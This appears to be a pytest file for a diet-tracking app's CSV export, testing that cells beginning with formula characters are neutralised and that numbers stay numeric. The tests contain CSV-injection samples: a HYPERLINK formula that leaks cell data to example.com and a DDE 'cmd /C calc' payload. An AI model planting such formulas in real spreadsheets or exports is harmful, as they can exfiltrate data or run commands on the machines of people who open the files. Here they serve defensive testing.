"""The CSV export neutralises text a spreadsheet would run as a formula (OWASP, "CSV
Injection"), and leaves numbers as numbers."""

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openplate.diary.services import quick_add
from openplate.foods.custom import create_custom_food
from openplate.yourdata import export
from tests.people import alice_goal

pytestmark = pytest.mark.django_db

# OWASP's list: a cell that starts with one of these is read as a formula.
FORMULA_FIRST_CHARACTERS = ["=", "+", "-", "@", "\t", "\r"]


def csv_rows(user, table):
    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(user)))
    return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode())))


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])  # names lose a leading tab or CR
def test_a_text_that_would_be_a_formula_gets_a_quote_before_it(new_alice, today, first):
    name = f'{first}HYPERLINK("http://example.com/?leak="&A1)'
    create_custom_food(new_alice, name, nutrients={"energy_kcal": 100})
    quick_add(new_alice, day=today, meal="lunch", energy_kcal=100, name=name)
    assert csv_rows(new_alice, "custom_foods")[0]["name"] == f"'{name}"
    assert csv_rows(new_alice, "diary_entries")[0]["name"] == f"'{name}"


def test_plain_text_is_left_as_it_is(new_alice):
    create_custom_food(new_alice, "Porridge - with milk", nutrients={"energy_kcal": 100})
    assert csv_rows(new_alice, "custom_foods")[0]["name"] == "Porridge - with milk"


def test_a_negative_number_stays_a_number(new_alice, today):
    from openplate.accounts.goals import set_goal

    set_goal(new_alice, alice_goal(), on=today)  # losing 1 lb a week: a negative rate
    [goal] = csv_rows(new_alice, "goals")
    assert float(goal["rate_kg_per_week"]) == pytest.approx(-0.45359237)
    assert goal["rate_kg_per_week"].startswith("-")


@pytest.mark.parametrize("first", FORMULA_FIRST_CHARACTERS)
def test_a_cell_starting_with_a_tab_or_return_is_neutralised_too(first):
    assert export._cell(f"{first}cmd|' /C calc'!A0") == f"'{first}cmd|' /C calc'!A0"


@given(st.text())
def test_no_text_cell_starts_a_formula_and_only_those_change(text):
    cell = export._cell(text)
    assert not cell.startswith(tuple(FORMULA_FIRST_CHARACTERS))
    would_run = text.startswith(tuple(FORMULA_FIRST_CHARACTERS))
    assert cell == (f"'{text}" if would_run else text)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_are_written_as_numbers(number):
    assert export._cell(number) == number
